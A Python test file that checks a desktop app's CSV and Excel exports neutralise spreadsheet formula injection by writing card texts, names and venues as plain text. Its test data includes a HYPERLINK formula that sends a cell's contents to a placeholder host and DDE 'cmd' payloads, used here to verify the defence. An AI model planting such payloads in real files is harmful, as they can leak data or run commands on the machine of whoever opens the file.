"""Exports write what was typed or imported as text: never a formula a spreadsheet would run."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from ilmava_desktop.cli import main
from ilmava_desktop.services import board
from ilmava_desktop.services.attendance import walk_in
from ilmava_desktop.services.attendance.export import export_attendance
from ilmava_desktop.services.municipalities.importing import import_file
from ilmava_desktop.services.table_files import write_tables
from ilmava_desktop.storage import queries

LINK = '=HYPERLINK("http://example.invalid/?d="&B2,"Klikkaa")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx=1", "\r=1"]


def csv_rows(path):
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))


def test_board_export_writes_card_texts_and_initials_as_text(demo, tmp_path):
    for text in HOSTILE:
        board.add_card(demo, municipality_id=None, kind="idea", text=text, author="=1+1")
    book = openpyxl.load_workbook(board.export_board(demo, tmp_path / "taulu.xlsx"))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    text_column, author_column = header.index("Text") + 1, header.index("Author") + 1
    votes_column = header.index("Votes") + 1
    cells = {sheet.cell(row, text_column).value: (sheet.cell(row, text_column),
                                                  sheet.cell(row, author_column))
             for row in range(2, sheet.max_row + 1)}
    text_cell, author_cell = cells[LINK]
    assert (text_cell.data_type, text_cell.value) == ("s", LINK)
    assert (author_cell.data_type, author_cell.value) == ("s", "=1+1")
    assert text_cell.quotePrefix  # stays text when edited in Excel too
    assert all(sheet.cell(row, votes_column).data_type == "n"
               for row in range(2, sheet.max_row + 1))

    rows = csv_rows(board.export_board(demo, tmp_path / "taulu.csv"))
    texts = {row[header.index("Text")] for row in rows[1:]}
    authors = {row[header.index("Author")] for row in rows[1:]}
    # clean_text folds the leading tab and CR of a card into nothing, so those two are "x=1"/"=1"
    assert {"'" + LINK, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "'=1"} <= texts
    assert "'=1+1" in authors and "=1+1" not in authors
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_attendance_export_writes_imported_and_typed_names_as_text(session, tmp_path):
    registrations = tmp_path / "ilmoittautumiset.csv"
    registrations.write_text("Kunta;Nimi;Sähköposti\nLahti;=cmd|'/C calc'!A0;\n", "utf-8")
    import_file(session, registrations)
    from ilmava_desktop.services.attendance.days import add_day

    add_day(session, period=1, title="", day_date=date(2027, 1, 27), venue="@Lahti",
            audience="", min_attendance=1, max_attendance=3)
    day = queries.days(session.db)[0]
    person = queries.people(session.db)[0]
    from ilmava_desktop.services.attendance import check_in

    check_in(session, day.id, person.id)
    walk_in(session, day.id, person.municipality_id, "-Walk In", title="+title")

    rows = csv_rows(export_attendance(session, tmp_path / "läsnäolo.csv"))
    names = {row[5] for row in rows[1:]}
    assert names == {"'=cmd|'/C calc'!A0", "'-Walk In"}
    assert {row[2] for row in rows[1:]} == {"'@Lahti"}
    assert {row[7] for row in rows[1:]} >= {"'+title"}

    book = openpyxl.load_workbook(export_attendance(session, tmp_path / "läsnäolo.xlsx"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    check_ins = book["Check-ins"]
    assert {check_ins.cell(row, 6).value for row in (2, 3)} == {"=cmd|'/C calc'!A0", "-Walk In"}
    counts = list(book["Per municipality"].iter_rows(values_only=True))
    assert counts[-1][-1] == 2 and isinstance(counts[-1][-1], int)  # counts stay numbers


def test_numbers_stay_numbers_and_number_like_text_stays_text(tmp_path):
    rows = [["gap", "votes", "text"], [-1.5, 3, "-1.5"], [0, -2, "#N/A"]]
    book = openpyxl.load_workbook(write_tables(tmp_path / "t.xlsx", [("T", rows)]))
    sheet = book.active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-1.5, "n"), (3, "n"), ("-1.5", "s")]
    assert (sheet["C3"].value, sheet["C3"].data_type) == ("#N/A", "s")
    assert csv_rows(write_tables(tmp_path / "t.csv", [("T", rows)]))[1:] == [
        ["-1.5", "3", "'-1.5"], ["0", "-2", "#N/A"]]


def test_a_control_character_in_a_card_does_not_stop_the_workbook(demo, tmp_path):
    board.add_card(demo, municipality_id=None, kind="idea", text="bell\x07 and\x01 nul")
    book = openpyxl.load_workbook(board.export_board(demo, tmp_path / "taulu.xlsx"))
    assert "bell and nul" in {cell.value for cell in book.active["G"]}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_board_export_command_writes_text(capsys, tmp_path, suffix):
    path = tmp_path / "demo.ilmava"
    main(["--lang", "en", "demo", str(path)])
    assert main(["--lang", "en", "board", "add", str(path), "--kind", "idea", "--text", LINK,
                 "--author", "@x"]) == 0
    out = tmp_path / f"taulu{suffix}"
    assert main(["--lang", "en", "board", "export", str(path), "--out", str(out)]) == 0
    capsys.readouterr()
    if suffix == ".csv":
        assert ["'" + LINK, "'@x"] in [row[6:8] for row in csv_rows(out)]
    else:
        formulas = [cell for row in openpyxl.load_workbook(out).active.iter_rows()
                    for cell in row if cell.data_type == "f"]
        assert formulas == []
